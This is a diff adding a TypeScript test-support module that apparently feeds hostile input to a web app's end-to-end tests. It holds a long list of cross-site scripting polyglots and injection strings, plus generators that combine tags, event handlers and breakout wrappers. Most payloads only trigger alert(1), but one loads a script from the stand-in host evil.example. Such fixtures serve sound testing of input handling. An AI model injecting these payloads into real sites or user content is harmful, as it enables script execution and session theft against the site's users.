@@ -1,0 +1,117 @@
+/** What every payload does where it runs; the journey hears of it. */
+const alertCall = 'alert(1)'
+
+const polyglots = [
+  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${alertCall}//'>`,
+  `"'><img src=x onerror=${alertCall}>{{constructor.constructor('${alertCall}')()}}\${${alertCall}}`,
+  `--></script><script>${alertCall}</script><!--`,
+  `]]><script>${alertCall}</script>`,
+  `</textarea><script>${alertCall}</script>`,
+  `</title><svg onload=${alertCall}>`,
+  `</style><script>${alertCall}</script>`,
+  `<script>${alertCall}</script>`,
+  `<ScRiPt >${alertCall}</sCrIpT>`,
+  `<script/src=data:,${alertCall}></script>`,
+  `<script src=//evil.example/x.js></script>`,
+  `<scr<script>ipt>${alertCall}</scr</script>ipt>`,
+  `<script\u0000>${alertCall}</script>`.replace('\u0000', '\u0001'),
+  `<svg><script>${alertCall}</script></svg>`,
+  `<svg><script href=data:,${alertCall} />`,
+  `<svg><animate onbegin=${alertCall} attributeName=x dur=1s>`,
+  `<svg><set attributeName=onmouseover to=${alertCall}>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${alertCall}</script></svg>#x"/>`,
+  `<math><mi xlink:href="javascript:${alertCall}">x</mi></math>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${alertCall}>`,
+  `<noscript><p title="</noscript><img src=x onerror=${alertCall}>">`,
+  `<iframe srcdoc="<script>parent.${alertCall}</script>">`,
+  `<iframe src="javascript:parent.${alertCall}">`,
+  `<object data="data:text/html,<script>${alertCall}</script>">`,
+  `<embed src="javascript:${alertCall}">`,
+  `<base href="javascript:/${alertCall}//">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${alertCall}">`,
+  `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${alertCall})}">`,
+  `<style>@import 'data:text/css,*{}';*{animation:x}</style><b onanimationstart=${alertCall}>`,
+  `<form action="javascript:${alertCall}"><button autofocus>x</button></form>`,
+  `<input autofocus onfocus=${alertCall}>`,
+  `<details open ontoggle=${alertCall}>x</details>`,
+  `<video><source onerror=${alertCall}></video>`,
+  `<audio src=x onerror=${alertCall}>`,
+  `<body onload=${alertCall}>`,
+  `<marquee onstart=${alertCall}>x</marquee>`,
+  `<template><script>${alertCall}</script></template>`,
+  `<x contenteditable onblur=${alertCall} autofocus>x</x>`,
+  `<a href="javascript:${alertCall}">x</a>`,
+  `<a href=" &#106;avascript:${alertCall}">x</a>`,
+  `<a href="data:text/html,<script>${alertCall}</script>">x</a>`,
+  `[x](javascript:${alertCall})`,
+  `[x](JaVaScRiPt:${alertCall})`,
+  `[x](\u0001javascript:${alertCall})`,
+  `[x](java\tscript:${alertCall})`,
+  `[x](data:text/html,<script>${alertCall}</script>)`,
+  `[x](vbscript:${alertCall})`,
+  `[x](https://x" onmouseover="${alertCall})`,
+  `[x](mailto:a@b.c?x="onclick="${alertCall})`,
+  `![x](x" onerror="${alertCall})`,
+  `\`<img src=x onerror=${alertCall}>\``,
+  `**<img src=x onerror=${alertCall}>**`,
+  `" onmouseover="${alertCall}" x="`,
+  `' autofocus onfocus='${alertCall}' x='`,
+  `\` onmouseover=${alertCall} `,
+  `\\"-${alertCall}//`,
+  `';${alertCall}//`,
+  `</script><svg onload=${alertCall}>`,
+  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${alertCall}>"}}}`,
+  `&lt;script&gt;${alertCall}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${alertCall}&#62;`,
+  `%3Cscript%3E${alertCall}%3C/script%3E`,
+  `\\u003cscript\\u003e${alertCall}\\u003c/script\\u003e`,
+  `+ADw-script+AD4-${alertCall}+ADw-/script+AD4-`,
+  `\uff1cscript\uff1e${alertCall}\uff1c/script\uff1e`,
+  `\u2028${alertCall}\u2029`,
+  `{{7*7}}{{${alertCall}}}`,
+  `<%= ${alertCall} %>`,
+  `#{${alertCall}}`,
+]
+
+const tags = ['img', 'svg', 'video', 'iframe', 'input', 'body', 'a', 'div', 'x', 'object', 'math', 'style']
+const events = [
+  'onerror',
+  'onload',
+  'onfocus',
+  'onmouseover',
+  'onpointerrawupdate',
+  'onanimationend',
+  'ontoggle',
+  'onpageshow',
+]
+const wrappers: ((payload: string) => string)[] = [
+  (payload) => payload,
+  (payload) => `">${payload}`,
+  (payload) => `'>${payload}`,
+  (payload) => `--!>${payload}`,
+  (payload) => `</script>${payload}`,
+]
+
+/** So many scripts in disguise: those that are known to have worked somewhere, then every tag with every event in every place. */
+export function scriptPayloads(count: number): string[] {
+  const made = wrappers.flatMap((wrap) =>
+    tags.flatMap((tag) =>
+      events.map((event) => wrap(`<${tag} src=x href=x tabindex=0 autofocus ${event}=${alertCall}>`)),
+    ),
+  )
+  if (count >= polyglots.length) return [...polyglots, ...made].slice(0, count)
+  const step = polyglots.length / count
+  return Array.from({ length: count }, (_, index) => polyglots[Math.floor(index * step)]!)
+}
+
+/** Puts as many payloads as fit into each text of at most so many characters; those that fit alone nowhere are cut. */
+export function packIntoTexts(payloads: string[], most: number): string[] {
+  const texts: string[] = []
+  for (const payload of payloads) {
+    const last = texts.at(-1)
+    if (last !== undefined && last.length + payload.length + 1 <= most)
+      texts[texts.length - 1] = `${last} ${payload}`
+    else texts.push(payload.slice(0, most))
+  }
+  return texts
+}
